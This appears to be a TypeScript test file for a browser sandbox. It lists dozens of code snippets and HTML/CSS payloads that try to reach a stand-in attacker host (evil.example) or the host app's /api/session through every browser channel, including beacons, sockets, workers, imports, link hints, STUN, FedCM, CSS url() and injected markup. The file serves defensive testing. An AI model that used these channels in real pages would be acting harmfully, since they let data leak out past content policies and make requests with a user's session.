// [UC-03, UC-04, UC-06] Asking somebody for something: the house as its visitor, or anyone outside, by every way that browsers have.
import type { Attempt } from './attempt.ts'

const link = (rel: string, more = ''): Attempt => [
  `a link ${rel} ${more}`,
  `const l=document.createElement('link');l.rel='${rel}';l.href=evil;${more}document.head.append(l);await wait(80);return true`,
]
const markup = (html: string): Attempt => [
  `markup ${html}`,
  `document.body.insertAdjacentHTML('beforeend',${JSON.stringify(html)});await wait(60);return false`,
]
const style = (css: string): Attempt => [
  `a style ${css}`,
  `const s=document.createElement('style');s.textContent=${JSON.stringify(css)};document.body.append(s,document.createElement('p'));await wait(60);return false`,
]

export const asking: readonly Attempt[] = [
  ['the house as its visitor', `return (await fetch('/api/session',{credentials:'include'})).status>0`],
  ['the house blindly', `return (await fetch(new URL('/api/session',location.href),{mode:'no-cors'})).type==='opaque'`],
  [
    'the house by a picture',
    `const i=new Image();i.src='/api/session';document.body.append(i);await heard(i,'load');return false`,
  ],
  [
    'the house by a form',
    `const f=document.createElement('form');f.action='/api/session';f.method='post';document.body.append(f);f.submit();await wait(100);return false`,
  ],
  [
    'the house’s socket',
    `return await heard(new WebSocket(location.href.replace('http','ws').replace(/frames.*/,'socket.io/?EIO=4&transport=websocket')),'open')`,
  ],
  ['fetch', `return (await fetch(evil,{mode:'no-cors'})).type==='opaque'`],
  ['fetch that outlives it', `fetch(evil,{mode:'no-cors',keepalive:true});fetchLater(evil);return false`],
  ['the old request', `const r=new XMLHttpRequest();r.open('GET',evil);r.send();return await heard(r,'load')`],
  ['the old request that waits', `const r=new XMLHttpRequest();r.open('GET',evil,false);r.send();return true`],
  ['a beacon', `return navigator.sendBeacon(evil,'x')`],
  ['a socket', `return await heard(new WebSocket('ws://evil.example/'),'open')`],
  ['a stream of events', `return await heard(new EventSource(evil),'open')`],
  ['a transport', `await new WebTransport('https://evil.example/').ready;return true`],
  ['a picture', `const i=new Image();i.src=evil;return await heard(i,'load')`],
  ['a picture of many sizes', `const i=new Image();i.srcset=evil+' 2x';return await heard(i,'load')`],
  ['a picture that is decoded', `const i=new Image();i.src=evil;await i.decode();return true`],
  ['a font', `await new FontFace('x','url('+evil+')').load();return true`],
  ['a worker', `return await heard(new Worker(evil),'message')`],
  [
    'a worker of its own text',
    `return await heard(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),'message')`,
  ],
  ['a worker in an address', `return await heard(new Worker('data:text/javascript,postMessage(1)'),'message')`],
  ['a shared worker', `return !!new SharedWorker('data:text/javascript,1')`],
  ['a worker that stays', `return !!(await navigator.serviceWorker.register('/sw.js'))`],
  ['a worklet', `await CSS.paintWorklet.addModule(evil);return true`],
  ['a module', `await import(evil);return true`],
  ['a module in an address', `await import('data:text/javascript,export default 1');return true`],
  [
    'a module of its own text',
    `await import(URL.createObjectURL(new Blob(['1'],{type:'text/javascript'})));return true`,
  ],
  [
    'a call between two',
    `const c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:STUN'}]});c.createDataChannel('x');await c.setLocalDescription(await c.createOffer());await wait(300);return true`,
  ],
  [
    'a call by its old name',
    `const c=new webkitRTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:STUN'}]});c.createDataChannel('x');await c.setLocalDescription();await wait(300);return true`,
  ],
  [
    'a payment',
    `await new PaymentRequest([{supportedMethods:evil+'pay'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).canMakePayment();return true`,
  ],
  [
    'a sign-in by others',
    `await navigator.credentials.get({identity:{providers:[{configURL:evil+'fedcm.json',clientId:'x'}]}});return true`,
  ],
  ['a cover', `navigator.mediaSession.metadata=new MediaMetadata({artwork:[{src:evil}]});return true`],
  [
    'a style sheet by an instruction',
    `document.insertBefore(document.createProcessingInstruction('xml-stylesheet','href="'+evil+'"'),document.firstChild);return true`,
  ],
  [
    'a style sheet that is adopted',
    `const s=new CSSStyleSheet();await s.replace('@import url('+evil+');p{background:url('+evil+')}');document.adoptedStyleSheets=[s];document.body.append(document.createElement('p'));await wait(60);return false`,
  ],
  [
    'a link that tells',
    `const a=document.createElement('a');a.href='#x';a.ping=evil;document.body.append(a);a.click();await wait(60);return false`,
  ],
  [
    'a link that tells of itself',
    `const a=document.createElement('a');a.setAttribute('attributionsrc',evil);a.href='#x';document.body.append(a);a.click();const i=new Image();i.attributionSrc=evil;await wait(60);return false`,
  ],
  [
    'rules of what comes next',
    `const s=document.createElement('script');s.type='speculationrules';s.textContent='{"prefetch":[{"source":"list","urls":["http://evil.example/"]}]}';document.head.append(s);return true`,
  ],
  [
    'a map of imports',
    `const s=document.createElement('script');s.type='importmap';s.textContent='{}';document.head.append(s);return true`,
  ],
  ['a script', `const s=document.createElement('script');s.src=evil;document.head.append(s);return true`],
  ...[
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'preload',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
    'prerender',
  ].map((rel) => link(rel)),
  ...[
    '<link rel=preconnect href=http://evil.example/>',
    '<LiNk rel=dns-prefetch href=//evil.example/>',
    '<svg><link xmlns="http://www.w3.org/1999/xhtml" rel=preconnect href=http://evil.example/></svg>',
    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
    '<base href=http://evil.example/><img src=x>',
    '<body background=http://evil.example/>',
    '<table background=http://evil.example/>',
    '<input type=image src=http://evil.example/>',
    '<picture><source srcset=http://evil.example/><img></picture>',
    '<svg><image href=http://evil.example/ /><use href="http://evil.example/#x"/><feImage href="http://evil.example/"/></svg>',
    '<video poster=http://evil.example/ src=http://evil.example/>',
    '<object data=http://evil.example/></object><embed src=http://evil.example/>',
    '<iframe src=http://evil.example/></iframe>',
    '<img src=http://evil.example/ onerror="new Image().src=\'http://evil.example/\'">',
  ].map(markup),
  ...[
    '@import "http://evil.example/";',
    'p{background:url(http://evil.example/)}',
    'p::after{content:url(http://evil.example/)}',
    'p{cursor:url(http://evil.example/),auto;list-style:url(http://evil.example/)}',
    '@font-face{font-family:x;src:url(http://evil.example/)}p{font-family:x}',
    'p{filter:url(http://evil.example/#x);mask:url(http://evil.example/)}',
    'p{background:image-set("http://evil.example/" 1x)}',
  ].map(style),
]
